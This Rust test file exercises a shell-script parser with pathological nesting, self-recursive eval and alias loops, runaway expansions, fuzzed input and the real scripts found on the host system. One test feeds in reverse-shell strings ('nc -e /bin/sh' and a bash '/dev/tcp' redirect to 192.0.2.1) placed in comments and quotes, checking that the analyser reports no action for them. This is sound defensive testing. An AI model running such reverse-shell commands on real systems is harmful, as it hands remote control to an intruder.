//! Texts made to break a parser, and the scripts of a real system, none of which may.

use std::path::{Path, PathBuf};
use std::time::Instant;

use model::Budget;
use proptest::prelude::*;

use super::{acts, lowered};
use crate::world::World;

/// Lowers a script on a stack no larger than that of a worker thread.
fn on_a_small_stack(script: String) -> (usize, Vec<String>) {
    let run = move || {
        let lowered = lowered(&script);
        let gaps = lowered
            .gaps
            .iter()
            .map(|(_, reason)| reason.0.clone())
            .collect();
        (lowered.acts.len(), gaps)
    };
    std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(run)
        .unwrap()
        .join()
        .unwrap()
}

#[test]
fn deep_nesting_is_a_gap_and_nothing_worse() {
    let openings = [
        "$(",
        "((",
        "(",
        "{ ",
        "`",
        "\"$(",
        "${x:-",
        "if ",
        "while ",
        "case x in a) ",
        "<(",
        "$((",
        "[[ ( ",
        "f() { ",
        "function g ",
        "! ",
        "coproc { ",
        "for i in a; do ",
        "echo $(( $(",
        "a=(",
        "eval '",
        "{a,",
        "\"${x:-\"",
        "until true; do { ( ",
        "<<E $(",
        "$[",
        "@(",
        "${x/$(",
        "${!",
    ];
    for opening in openings {
        let (_, gaps) = on_a_small_stack(opening.repeat(100_000));
        if matches!(opening, "$(" | "(" | "{ " | "if ") {
            assert!(!gaps.is_empty(), "{opening}");
        }
    }
}

#[test]
fn closed_deep_nesting_is_passed() {
    for (open, close) in [
        ("(", ")"),
        ("{ ", ";}"),
        ("$(", ")"),
        ("if a; then ", "; fi"),
        ("\"$(", ")\""),
    ] {
        let script = format!("{}foo{}\nbar", open.repeat(2_000), close.repeat(2_000));
        on_a_small_stack(script);
    }
    let (count, gaps) = on_a_small_stack(format!("{}foo{}", "( ".repeat(20), ")".repeat(20)));
    assert_eq!((count, gaps.len()), (1, 0));
}

#[test]
fn shells_inside_shells_end() {
    let mut script = "foo".to_owned();
    for _ in 0..16 {
        script = format!("eval {}", script.replace('\\', "\\\\").replace(' ', "\\ "));
        if script.len() > 1 << 20 {
            break;
        }
    }
    on_a_small_stack(script);
    on_a_small_stack(
        "f() { sh -c \"$x\"; eval \"$x\"; }; x='eval \"$x\"; f; sh -c \"$x\"'; export x; f"
            .to_owned(),
    );
    on_a_small_stack("a() { b; b; }; b() { c; c; }; c() { d; d; }; d() { a; a; }; a".to_owned());
    on_a_small_stack("eval \"$(cat <<'E'\neval \"$(cat <<'F'\nfoo\nF\n)\"\nE\n)\"".to_owned());
    on_a_small_stack("alias a='b a' b='a b'; a; b".to_owned());
    on_a_small_stack(
        "while :; do while :; do while :; do x=$x$x; foo; done; done; done".to_owned(),
    );
}

#[test]
fn growth_is_bounded() {
    let (_, gaps) = on_a_small_stack(format!(
        "x=aaaaaaaaaaaaaaaa; {} foo $x",
        "x=$x$x$x$x; ".repeat(40)
    ));
    assert!(gaps.len() < 4, "{gaps:?}");
    on_a_small_stack("echo {1..9999}{1..9999}{1..9999}".to_owned());
    on_a_small_stack(
        "x=$(printf %01000000d 0); for i in {1..4000}; do y=${x//0/00}; z=${x#*1}; done".to_owned(),
    );
    on_a_small_stack("for i in {1..4000}; do for j in {1..4000}; do for k in {1..4000}; do x=$x$i; done; done; done".to_owned());
    on_a_small_stack(
        "a[99999999999]=1; a[-5]=2; echo ${a[@]:9999999999999:-99999999999}".to_owned(),
    );
    on_a_small_stack("echo $((9223372036854775807+1)) $((1/0)) $((-9223372036854775808/-1)) $((1<<99)) $((2**-1))".to_owned());
}

#[test]
fn long_texts_take_time_in_line_with_their_length() {
    let million = 1 << 20;
    let texts = [
        "a;".repeat(million / 2),
        "a&&".repeat(million / 4),
        "a|".repeat(million / 4),
        format!("cat <<EOF\n{}", "line\n".repeat(million / 5)),
        format!("x='{}", "a".repeat(million)),
        "#comment\n".repeat(million / 9),
        "a=b ".repeat(million / 4),
        "((".repeat(million / 2),
        "$((1)".repeat(million / 5),
        "x[".repeat(million / 2),
        "${x".repeat(million / 3),
        "cat <<A <<B\n".repeat(million / 12),
        "\\\n".repeat(million / 2),
        "'\"`".repeat(million / 3),
        "fi done } ) esac ;; ".repeat(million / 20),
        "{output of ".repeat(million / 11),
        "f(){ :;};".repeat(million / 9),
        "$'".repeat(million / 2),
    ];
    for text in texts {
        let start = Instant::now();
        let head: String = text.chars().take(12).collect();
        on_a_small_stack(text);
        // Unoptimised, and other work runs beside it: quadratic work would take minutes.
        assert!(start.elapsed().as_secs() < 30, "{head}");
    }
}

#[test]
fn what_is_never_run_is_not_told() {
    for script in [
        "# nc -e /bin/sh 192.0.2.1 1\n",
        "x='nc -e /bin/sh 192.0.2.1 1'",
        "x=\"bash -i >& /dev/tcp/192.0.2.1/1 0>&1\"",
        "cat <<'EOF'\nnc -e /bin/sh 192.0.2.1 1\nEOF\n",
        "echo 'nc -e /bin/sh 192.0.2.1 1'",
        "a=(nc -e /bin/sh)",
        "case nc in esac",
        ": 'nc 192.0.2.1 1'",
    ] {
        assert_eq!(acts(script), "", "{script}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn any_text_is_lowered(text in "\\PC{0,200}") {
        lowered(&text);
    }

    #[test]
    fn any_shell_like_text_is_lowered(
        tokens in proptest::collection::vec(
            prop::sample::select(vec![
                "$", "(", ")", "{", "}", "`", "\"", "'", "\\", "\n", ";", "&", "|", "<", ">", "<<E", "E\n",
                "if ", "then ", "fi ", "do ", "done ", "for x in ", "case ", " in ", "esac ", ";;", "x", "=",
                "[", "]", "[[ ", " ]]", "((", "))", "${x", ":-", "//", "#", "%", "!", "@", "*", "?", "~", "é",
                "eval ", "echo ", "sh -c ", "read x", "exec 3<>", "/dev/tcp/", "$1", "1", "a", " ", "\t", "\r\n",
                "set -- ", "while ", "function ", "$'\\x", "{a,b}", "{1..3}", "x+=", "declare -A m", "trap ",
            ]),
            0..60,
        )
    ) {
        lowered(&tokens.concat());
    }
}

/// Every shell script under some folders, with its path.
fn scripts() -> Vec<(PathBuf, String)> {
    let mut found = Vec::new();
    let mut folders: Vec<PathBuf> = [
        "/usr/bin",
        "/usr/sbin",
        "/var/lib/dpkg/info",
        "/etc",
        "/usr/lib",
        "/usr/share",
    ]
    .iter()
    .map(PathBuf::from)
    .collect();
    while let Some(folder) = folders.pop() {
        let Ok(entries) = std::fs::read_dir(&folder) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            if kind.is_dir() {
                folders.push(path);
            } else if kind.is_file() && found.len() < 4_000 {
                found.extend(script(&path).map(|text| (path, text)));
            }
        }
    }
    found
}

fn script(path: &Path) -> Option<String> {
    let size = std::fs::metadata(path).ok()?.len();
    if size > 4 << 20 {
        return None;
    }
    let bytes = std::fs::read(path).ok()?;
    let first = bytes.split(|byte| *byte == b'\n').next()?;
    let first = String::from_utf8_lossy(first).into_owned();
    let is_shell = first.starts_with("#!")
        && ["/sh", "/bash", "/dash", " bash", " sh"]
            .iter()
            .any(|name| first.contains(name));
    is_shell.then(|| crate::encoding::to_text(&bytes))
}

#[test]
fn the_scripts_of_this_system_are_followed_without_gaps() {
    let mut wrong = Vec::new();
    for (path, text) in scripts() {
        let lowered = lowered(&text);
        wrong.extend(
            lowered
                .gaps
                .iter()
                .map(|(_, gap)| format!("{}: {gap}", path.display())),
        );
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Prints how fast scripts are lowered; of use only with optimisation.
#[test]
#[ignore = "a measurement"]
fn speed() {
    let scripts = scripts();
    let bytes: usize = scripts.iter().map(|(_, text)| text.len()).sum();
    let mut times: Vec<(u128, &Path)> = Vec::new();
    let start = Instant::now();
    for (path, text) in &scripts {
        let one = Instant::now();
        let budget = Budget::default();
        let mut world = World::new(&budget);
        crate::language::shell::lower(&mut world, text);
        times.push((one.elapsed().as_micros(), path));
    }
    let seconds = start.elapsed().as_secs_f64();
    times.sort();
    println!(
        "{} scripts, {bytes} bytes: {:.1} MB/s",
        scripts.len(),
        bytes as f64 / 1e6 / seconds
    );
    for (micros, path) in times.iter().rev().take(12) {
        println!("{micros:>8} µs {}", path.display());
    }
}
